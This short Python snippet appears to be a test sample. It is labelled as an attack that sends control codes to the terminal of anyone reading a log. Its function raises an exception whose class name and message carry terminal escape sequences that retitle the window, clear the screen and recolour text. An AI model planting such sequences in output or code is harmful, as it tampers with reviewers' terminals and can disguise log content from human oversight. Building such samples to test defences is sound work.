# /// attack
# does = "sends codes to the terminal of whoever reads the log"
# wall = "feedback"
# raises = ["*"]
# ///
# %% double
def double(x, label): raise type("\x1b]0;vault\x07\x1b[2J", (Exception,), {})("\x1b[31m\x9b2J")
